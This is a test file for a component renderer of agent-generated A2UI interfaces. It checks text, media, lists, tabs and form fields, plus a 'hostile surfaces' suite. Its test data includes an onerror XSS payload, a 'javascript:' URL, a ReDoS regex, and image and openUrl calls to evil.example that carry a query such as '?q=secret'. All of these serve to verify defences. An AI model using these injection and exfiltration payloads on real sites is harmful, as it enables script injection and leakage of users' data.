import { BASIC_COMPONENTS, IconApi } from "@a2ui/web_core/v0_9";
import { screen, within } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import { basicComponents } from "../../../src/a2ui/components/basicComponents.ts";
import { renderSurface } from "../a2uiChat.tsx";
import { component, create, data, text, update } from "../fixtures.ts";

/** Renders components, of which the first is the root, with data. */
const show = (components: readonly object[], value: object = {}) =>
  renderSurface([create(), data("/", value), update(components)]);

test("the catalog has all components of the basic catalog", () => {
  const names = (list: readonly { readonly name: string }[]) => list.map(({ name }) => name).sort();
  expect(names(basicComponents)).toEqual(names(BASIC_COMPONENTS));
});

describe("texts and icons", () => {
  test("a body is Markdown without HTML and without images that load", () => {
    show([
      text("root", '**Hi** <img src=x onerror="alert(1)"> ![leak](https://evil.example/?q=1)'),
    ]);
    expect(screen.getByText("Hi").tagName).toBe("STRONG");
    expect(document.querySelector(".agk-a2ui img")).toBeNull();
    expect(screen.getByRole("button", { name: /evil\.example/ })).toBeInTheDocument();
  });

  test("a heading is below those of the page, and a caption is a paragraph", () => {
    show([
      component("root", "Column", { children: ["a", "b"] }),
      component("a", "Text", { text: "Title", variant: "h1" }),
      component("b", "Text", { text: "Small", variant: "caption" }),
    ]);
    expect(screen.getByRole("heading", { name: "Title", level: 3 })).toBeInTheDocument();
    expect(screen.getByText("Small").tagName).toBe("P");
  });

  test("every icon of the catalog has a path, and another name renders nothing", () => {
    const icons = IconApi.schema.shape.name.options[0].options;
    expect(icons.length).toBeGreaterThan(50);
    show([
      component("root", "Row", { children: [...icons, "other"] }),
      ...icons.map((name) => component(name, "Icon", { name })),
      component("other", "Icon", { name: { path: "/icon" } }),
    ]);
    expect(document.querySelectorAll(".agk-a2ui-icon path")).toHaveLength(icons.length);
  });
});

describe("media", () => {
  test.each([
    ["Image", "image"],
    ["Video", "video"],
    ["AudioPlayer", "audio"],
  ])("%s loads nothing from an unknown origin before the user asks for it", async (type, kind) => {
    const { user } = show([component("root", type, { url: `https://evil.example/${kind}` })]);
    const surface = () => document.querySelector<HTMLElement>(".agk-a2ui");
    expect(surface()?.innerHTML).not.toContain(`evil.example/${kind}`);
    await user.click(screen.getByRole("button", { name: /evil\.example/ }));
    expect(surface()?.innerHTML).toContain(`evil.example/${kind}`);
  });

  test.each(["Image", "Video", "AudioPlayer"])("%s has no address but those of the web", (type) => {
    show([component("root", type, { url: "javascript:alert(1)" })]);
    expect(document.querySelector(".agk-a2ui")?.innerHTML).not.toContain("javascript:");
  });
});

describe("containers", () => {
  test("a list of data has an item for each, with its own data", () => {
    show(
      [
        component("root", "List", { children: { componentId: "item", path: "/items" } }),
        text("item", { path: "name" }),
      ],
      { items: [{ name: "One" }, { name: "Two" }] },
    );
    const items = within(screen.getByRole("list")).getAllByRole("listitem");
    expect(items.map((item) => item.textContent)).toEqual(["One", "Two"]);
  });

  test("an item has its index in A2UI 1.0", () => {
    show(
      [
        component("root", "List", { children: { componentId: "item", path: "/items" } }),
        text("item", { call: "@index", args: { offset: 1 } }),
      ],
      { items: [{}, {}] },
    );
    expect(screen.getAllByRole("listitem").map((item) => item.textContent)).toEqual(["1", "2"]);
  });

  test("a long list shows its beginning, and more on demand", async () => {
    const ids = Array.from({ length: 10_000 }, (_, index) => `c${index}`);
    const { user } = show([
      component("root", "Column", { children: ids }),
      ...ids.map((id) => text(id, id)),
    ]);
    expect(document.querySelectorAll(".agk-a2ui-column > *")).toHaveLength(200);
    await user.click(screen.getByRole("button", { name: /more/i }));
    expect(document.querySelectorAll(".agk-a2ui-column > *")).toHaveLength(300);
  });

  test("tabs show the content of the chosen tab", async () => {
    const { user } = show([
      component("root", "Tabs", {
        tabs: [
          { title: "One", child: "a" },
          { title: "Two", child: "b" },
        ],
      }),
      text("a", "First"),
      text("b", "Second"),
    ]);
    expect(screen.getByRole("tabpanel")).toHaveTextContent("First");
    await user.click(screen.getByRole("tab", { name: "Two" }));
    expect(screen.getByRole("tabpanel")).toHaveTextContent("Second");
    await user.keyboard("{ArrowLeft}{Enter}");
    expect(screen.getByRole("tab", { name: "One" })).toHaveAttribute("aria-selected", "true");
  });

  test("cards, rows and dividers render their parts", () => {
    show([
      component("root", "Card", { child: "row" }),
      component("row", "Row", { children: ["a", "line", "b"], justify: "spaceBetween" }),
      component("a", "Text", { text: "Left", weight: 2 }),
      component("line", "Divider", { axis: "vertical" }),
      text("b", "Right"),
    ]);
    expect(screen.getByRole("separator")).toHaveAttribute("aria-orientation", "vertical");
    expect(screen.getByText("Left").closest(".agk-a2ui-weight")).toBeInTheDocument();
  });
});

describe("fields", () => {
  const bound = { label: "Field", value: { path: "/value" } };

  test("a text field changes the data that other components show", async () => {
    const { user } = show(
      [
        component("root", "Column", { children: ["field", "echo"] }),
        component("field", "TextField", bound),
        text("echo", { path: "/value" }),
      ],
      { value: "A" },
    );
    await user.type(screen.getByRole("textbox", { name: "Field" }), "da");
    expect(screen.getByText("Ada")).toBeInTheDocument();
  });

  test("a text field without data keeps what the user enters", async () => {
    const { user } = show([component("root", "TextField", { label: "Field", value: "A" })]);
    await user.type(screen.getByRole("textbox", { name: "Field" }), "da");
    expect(screen.getByRole("textbox", { name: "Field" })).toHaveValue("Ada");
  });

  test("a field shows the problems of its checks when the user has left it", async () => {
    const check = { condition: { call: "required", args: { value: { path: "/value" } } } };
    const { user } = show(
      [component("root", "TextField", { ...bound, checks: [{ ...check, message: "Name it." }] })],
      { value: "" },
    );
    expect(screen.queryByText("Name it.")).toBeNull();
    await user.click(screen.getByRole("textbox", { name: "Field" }));
    await user.tab();
    expect(screen.getByText("Name it.")).toBeInTheDocument();
    expect(screen.getByRole("textbox", { name: "Field" })).toBeInvalid();
    await user.type(screen.getByRole("textbox", { name: "Field" }), "x");
    expect(screen.queryByText("Name it.")).toBeNull();
  });

  test("a pattern that may take exponential time is not run", async () => {
    const field = component("root", "TextField", { ...bound, validationRegexp: "(a+)+$" });
    const { user } = show([field], { value: "" });
    await user.type(
      screen.getByRole("textbox", { name: "Field" }),
      "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
    );
    await user.tab();
    expect(screen.getByRole("textbox", { name: "Field" })).toBeValid();
  });

  test("a checkbox, a slider and a date change their data", async () => {
    const { user } = show(
      [
        component("root", "Column", { children: ["check", "slider", "date", "echo"] }),
        component("check", "CheckBox", { label: "Agree", value: { path: "/agreed" } }),
        component("slider", "Slider", { label: "Guests", value: { path: "/guests" }, max: 8 }),
        component("date", "DateTimeInput", {
          label: "When",
          value: { path: "/when" },
          enableDate: true,
          enableTime: true,
        }),
        text("echo", { path: "/agreed" }),
      ],
      { agreed: false, guests: 2, when: "2026-05-01T18:30:00Z" },
    );
    await user.click(screen.getByRole("checkbox", { name: "Agree" }));
    expect(screen.getByText("true")).toBeInTheDocument();
    expect(screen.getByRole("slider", { name: "Guests" })).toHaveValue("2");
    expect(screen.getByLabelText("When")).toHaveValue("2026-05-01T18:30");
  });

  test.each([
    ["checkbox", "mutuallyExclusive", "radio", ["b"]],
    ["checkbox", "multipleSelection", "checkbox", ["a", "b"]],
    ["chips", "multipleSelection", "button", ["a", "b"]],
  ] as const)(
    "a picker with style %s and %s has a %s for each option",
    async (style, variant, role, chosen) => {
      const { user } = show(
        [
          component("root", "Column", { children: ["picker", "echo"] }),
          component("picker", "ChoicePicker", {
            label: "Room",
            variant,
            displayStyle: style,
            options: [
              { label: "Sea", value: "a" },
              { label: "Garden", value: "b" },
            ],
            value: { path: "/room" },
          }),
          text("echo", { path: "/room" }),
        ],
        { room: ["a"] },
      );
      const group = within(screen.getByRole("group", { name: "Room" }));
      await user.click(group.getByRole(role, { name: "Garden" }));
      expect(screen.getByText(JSON.stringify(chosen))).toBeInTheDocument();
    },
  );

  test("a filter shows the options that match", async () => {
    const options = ["Lisbon", "London", "Paris"].map((label) => ({ label, value: label }));
    const { user } = show([
      component("root", "ChoicePicker", { label: "City", options, value: [], filterable: true }),
    ]);
    await user.type(screen.getByRole("searchbox", { name: "City" }), "l");
    expect(screen.getAllByRole("radio")).toHaveLength(2);
  });
});

describe("hostile surfaces", () => {
  test("a cycle is rendered once", () => {
    show([component("root", "Card", { child: "root" })]);
    expect(document.querySelectorAll(".agk-a2ui-card")).toHaveLength(1);
  });

  test("a component that the catalog does not have is a note, beside the others", () => {
    show([
      component("root", "Column", { children: ["a", "b"] }),
      component("a", "Hologram", { power: 9 }),
      text("b", "Still here"),
    ]);
    expect(screen.getByText("Couldn’t display this properly.")).toBeInTheDocument();
    expect(screen.getByText("Still here")).toBeInTheDocument();
  });

  test("a property cannot open an address without the user", () => {
    const opened: unknown[] = [];
    const { open } = window;
    window.open = (...args) => {
      opened.push(args);
      return null;
    };
    show([text("root", { call: "openUrl", args: { url: "https://evil.example/?q=secret" } })]);
    window.open = open;
    expect(opened).toEqual([]);
  });
});
